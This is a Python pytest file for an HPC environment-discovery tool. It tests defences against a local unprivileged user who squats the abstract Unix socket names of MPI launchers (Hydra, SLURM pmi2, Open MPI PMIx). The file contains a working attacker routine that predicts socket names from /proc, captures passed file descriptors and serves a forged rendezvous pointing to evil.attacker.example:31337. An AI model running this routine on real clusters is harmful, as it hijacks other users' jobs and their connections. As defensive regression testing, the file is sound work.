"""Another local user against real launchers (issue 38): uid 65534, in each node's network
namespace (abstract sockets are per network namespace), watches /proc for launcher daemons
and their tasks and binds every helper name it can compute for them -- the holder's and
the task's claim, in the form distenv used before (pid and start time only) and in today's
form without the secret it cannot read -- answering like a holder (``ok``) and a claim (a
forged rendezvous at evil.attacker.example:31337).

Before: the first rank connected to the impostor holder and handed it the task's PMI
connection (Hydra), the stepd's connection (SLURM pmi2) or the PMIx relay's listener (Open
MPI 5), and a job script's later program took the forged rendezvous. Now every rank's
fields are the truth and the attacker receives no connection of ours, no descriptor.

- MPICH 4 (Hydra, PMI_FD), a job script of two programs without exec, rank 0 on node2;
- ``srun --mpi=pmi2`` arbitrary (the stepd relay), then MPICH's own MPI_Init;
- Open MPI 5 (the PMIx relay), a job script of two programs, rank 0 on node2.
"""
from __future__ import annotations

import ctypes
import json
import os
import socket
import time

import pytest

import harness
from test_hpc_interfaces import (ARBITRARY_HOSTS, LIBMPICH, PROBE, WRAPPED, check_discovered,
                                 job, records_of)

pytestmark = [pytest.mark.launcher, pytest.mark.cluster, pytest.mark.timeout(900)]

NOBODY = 65534
CLONE_NEWNET = 0x40000000
DAEMONS = {"hydra_pmi_proxy", "slurmstepd", "prted", "prterun", "orted"}
FORGED = json.dumps({"service": "pmi", "rank": 0, "size": 4, "hosts": "evil.attacker.example*4",
                     "why": "forged", "port": 31337, "port_key": None, "one_per_node": "",
                     "pid": 1})


def _stat(pid: int) -> "list[str]":
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return f.read().decode("ascii", "replace").rpartition(")")[2].split()
    except OSError:
        return []


def _comm(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/comm") as f:
            return f.read().strip()
    except OSError:
        return ""


def _names(victim: int, pidns: str) -> "dict[str, str]":
    """{abstract name: "holder" or "claim"} for every launcher daemon and task now running."""
    out: "dict[str, str]" = {}
    stats = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            fields = _stat(int(entry))
            if len(fields) > 19:
                stats[int(entry)] = (int(fields[1]), fields[19])
    for pid, (_parent, start) in stats.items():
        if _comm(pid) not in DAEMONS:
            continue
        for prefix in (f"\0distenv-holder/{victim}/", f"\0distenv-{victim}-/holder/{pidns}/"):
            out[f"{prefix}daemon/{pid}/{start}"] = "holder"
        for task, (parent, task_start) in stats.items():
            if parent == pid:
                for svc in ("pmi", "pmix"):
                    out[f"\0distenv/{svc}/{task}/{task_start}"] = "claim"
                    out[f"\0distenv-{victim}-/claim/{pidns}/{svc}/{task}/{task_start}"] = "claim"
    return out


def _attack(node: str, victim: int, seconds: float, write: int, stop: int) -> None:
    """The attacker's loop (in a forked child): enter `node`'s network namespace, become uid
    65534, bind every name it can compute, take what comes, until `stop` is readable (or
    `seconds`); write its report to `write`."""
    import select

    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(f"/run/netns/{node}", os.O_RDONLY)
    if libc.setns(fd, CLONE_NEWNET) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    os.close(fd)
    try:
        pidns = os.readlink("/proc/self/ns/pid").partition("[")[2].rstrip("]")
    except OSError:
        pidns = ""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    got = {"bound": 0, "connections": 0, "fds": 0, "forged_sent": 0}
    listening: "dict[str, tuple[socket.socket, str]]" = {}
    end = time.monotonic() + seconds
    while time.monotonic() < end and not select.select([stop], [], [], 0)[0]:
        for name, kind in _names(victim, pidns).items():
            if name in listening:
                continue
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.bind(name)
                s.listen(16)
                s.setblocking(False)
            except OSError:
                s.close()
                continue
            listening[name] = (s, kind)
            got["bound"] += 1
        for s, kind in listening.values():
            try:
                c, _ = s.accept()
            except OSError:
                continue
            got["connections"] += 1
            c.settimeout(0.5)
            try:
                if kind == "claim":
                    c.sendall(FORGED.encode() + b"\n")
                    got["forged_sent"] += 1
                else:
                    for _ in range(4):  # watch, then the duties and their descriptors
                        data, anc, _, _ = c.recvmsg(1 << 16, socket.CMSG_SPACE(16 * 4))
                        if not data:
                            break
                        for level, what, payload in anc:
                            if level == socket.SOL_SOCKET and what == socket.SCM_RIGHTS:
                                got["fds"] += len(payload) // 4
                        c.sendall(b"ok pid=1 id=0\n")
            except OSError:
                pass
            c.close()
        time.sleep(0.002)
    os.write(write, json.dumps(got).encode())


class Attackers:
    """One attacker per node, for at most `seconds`; `reports()` ends them and reads what they
    took."""

    def __init__(self, seconds: float) -> None:
        self.children = []
        self.stop, go = os.pipe()
        self.go = go
        for node in ("node1", "node2"):
            read, write = os.pipe()
            pid = os.fork()
            if pid == 0:
                code = 0
                try:
                    os.close(read)
                    os.close(go)
                    _attack(node, os.geteuid(), seconds, write, self.stop)
                except BaseException as exc:  # noqa: BLE001 - reported by the exit code
                    os.write(2, f"attacker on {node}: {exc!r}\n".encode())
                    code = 3
                os._exit(code)
            os.close(write)
            self.children.append((node, pid, read))
        time.sleep(0.5)  # it binds the names of what already runs

    def reports(self) -> "dict[str, dict]":
        os.write(self.go, b"x")  # every attacker sees the pipe readable: it ends
        os.close(self.go)
        os.close(self.stop)
        out = {}
        for node, pid, read in self.children:
            data = b""
            while True:
                part = os.read(read, 4096)
                if not part:
                    break
                data += part
            os.close(read)
            _, status = os.waitpid(pid, 0)
            assert os.waitstatus_to_exitcode(status) == 0, f"the attacker on {node} failed"
            out[node] = json.loads(data)
        return out


def _attacked(lay, cmd, seconds, **kw):
    attackers = Attackers(seconds)
    try:
        records = records_of(lay, cmd, **kw)
    finally:
        got = attackers.reports()
    return records, got


def _nothing_taken(got: dict) -> None:
    for node, report in got.items():
        assert report["fds"] == 0 and report["connections"] == 0, (node, got)
    # the attacker did bind what it could compute: the test attacked for real
    assert sum(r["bound"] for r in got.values()) > 0, got


@pytest.mark.parametrize("name", ["mpich4", "openmpi5"])
def test_a_job_script_under_attack_gets_its_own_rendezvous(root, need, name):
    lay, hosts, why = WRAPPED[name]
    lay = need(lay)
    records, got = _attacked(lay, [job(harness.PY, PROBE, "discover", twice=True)], 300, each=2)
    check_discovered(records, hosts, why)
    for r in records:
        assert r["env"]["master_addr"] == hosts[0] and r["env"]["master_port"] != 31337, r
    _nothing_taken(got)


def test_the_stepd_connection_goes_to_no_impostor(root, need):
    lay = need(harness.LAYOUTS["slurm-N2-n4-pmi2-arbitrary"])
    records, got = _attacked(lay, [harness.PY, PROBE, "discover", LIBMPICH], 300)
    check_discovered(records, ARBITRARY_HOSTS, "PMI-1 key-value exchange (SLURM, PMI_FD)")
    for r in records:  # the relay is ours: MPI_Init after discovery still works
        assert r["mpi"]["init_rc"] == 0 and r["mpi"]["sum"] == 10, r
    _nothing_taken(got)
